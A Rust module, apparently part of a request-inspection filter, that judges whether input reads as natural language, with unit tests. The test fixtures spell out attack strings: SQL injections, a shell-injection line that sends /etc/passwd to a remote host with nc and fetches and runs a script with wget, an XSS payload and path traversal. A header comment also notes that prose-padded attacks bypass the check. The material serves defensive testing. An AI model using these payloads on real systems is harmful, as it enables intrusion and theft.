//! Does a value read as natural language? Used by the `prompt_api` profile, where
//! prose is text for a model (quoting code, shell commands or SQL is normal there)
//! while short or code-shaped values are still inspected as code.
//!
//! The test is grammatical, not a word list of attacks: enough whitespace-separated
//! tokens, most of them plain words, and a share of the function words every English
//! sentence is made of (articles, pronouns, prepositions that SQL and shell do not
//! use), or mostly non-Latin letters for scripts without spaces. An attack padded
//! with prose passes this test by design: scope the profile to the prompt routes
//! with `when`, or name the prompt fields in `text_fields`.

/// Shorter values are structured (ids, names, options) whatever they contain.
const MIN_CHARS: usize = 48;
/// Tokens a sentence needs.
const MIN_TOKENS: usize = 8;
/// Tokens looked at (the verdict is clear well before a long prompt ends).
const MAX_TOKENS: usize = 400;

/// English function words that are not SQL, shell or template keywords (`and`, `or`,
/// `not`, `in`, `is`, `as`, `on`, `by`, `from`, `if`, `set` are left out on purpose).
const FUNCTION_WORDS: &[&str] = &[
    "a", "about", "after", "also", "an", "any", "are", "at", "be", "been", "but", "can", "could",
    "do", "does", "each", "for", "give", "has", "have", "he", "her", "his", "how", "i", "it",
    "its", "just", "me", "more", "my", "of", "our", "please", "she", "should", "so", "some",
    "than", "that", "the", "their", "them", "there", "these", "they", "this", "those", "to",
    "us", "was", "we", "were", "what", "which", "who", "will", "with", "would", "you", "your",
];

/// Does `s` (lowercased, decoded) read as natural language?
pub fn is_natural_language(s: &str) -> bool {
    if s.len() < MIN_CHARS {
        return false;
    }
    let (mut tokens, mut words, mut function) = (0usize, 0usize, 0usize);
    for tok in s.split_ascii_whitespace().take(MAX_TOKENS) {
        tokens += 1;
        let w = tok.trim_matches(|c: char| {
            matches!(c, '.' | ',' | ';' | ':' | '!' | '?' | '"' | '\'' | '(' | ')' | '*' | '`')
        });
        if !w.is_empty() && w.chars().all(|c| c.is_alphabetic() || c == '\'' || c == '-') {
            words += 1;
            if FUNCTION_WORDS.binary_search(&w).is_ok() {
                function += 1;
            }
        }
    }
    let sentence = tokens >= MIN_TOKENS && words * 10 >= tokens * 6 && function >= 3 && function * 100 >= tokens * 12;
    sentence || mostly_non_latin(s)
}

/// Scripts written without spaces between words (CJK, Thai …): most characters are
/// letters outside Latin.
fn mostly_non_latin(s: &str) -> bool {
    let (mut letters, mut other) = (0usize, 0usize);
    for c in s.chars().take(2000) {
        if c.is_alphabetic() && (c as u32) >= 0x250 {
            letters += 1;
        } else if !c.is_whitespace() {
            other += 1;
        }
    }
    letters >= 24 && letters * 10 >= (letters + other) * 6
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn function_words_are_sorted() {
        assert!(FUNCTION_WORDS.windows(2).all(|w| w[0] < w[1]));
    }

    #[test]
    fn prose_and_code() {
        for p in [
            "i want you to act as a linux terminal. i will type commands and you will reply with what the terminal should show, like `cat /etc/passwd`.",
            "please write a sql query that will select the ten newest orders for each customer: select * from orders order by created desc limit 10;",
            "我希望你充当一个旅游向导。我会把我的位置告诉你，你会推荐一个靠近我的位置的地方。在某些情况下，我还会告诉你我要访问的地方类型。",
        ] {
            assert!(is_natural_language(p), "{p}");
        }
        for c in [
            "1' union select username, password from users where 1=1 and 2=2 -- -",
            "; cat /etc/passwd | nc 10.0.0.1 4444 ; wget http://x/sh -o /tmp/sh ; sh /tmp/sh",
            "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>",
            "../../../../../../../../../../../../etc/passwd%00.jpg",
            "short text with the word you",
            "1 and (select 4821 from(select count(*),concat(0x71,(select (elt(4821=4821,1))),0x71,floor(rand(0)*2))x from information_schema.plugins group by x)a)",
        ] {
            assert!(!is_natural_language(c), "{c}");
        }
    }
}
